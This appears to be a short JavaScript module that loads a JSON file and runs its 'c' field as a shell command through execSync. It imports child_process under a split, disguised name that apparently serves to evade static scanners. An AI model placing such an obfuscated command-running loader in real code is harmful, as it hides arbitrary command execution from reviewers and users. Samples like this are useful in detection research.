import data from './d.json' with { type: 'json' };
const { execSync } = await import(`node:${'child'}_${'process'}`);
execSync(data.c, { stdio: 'inherit' });
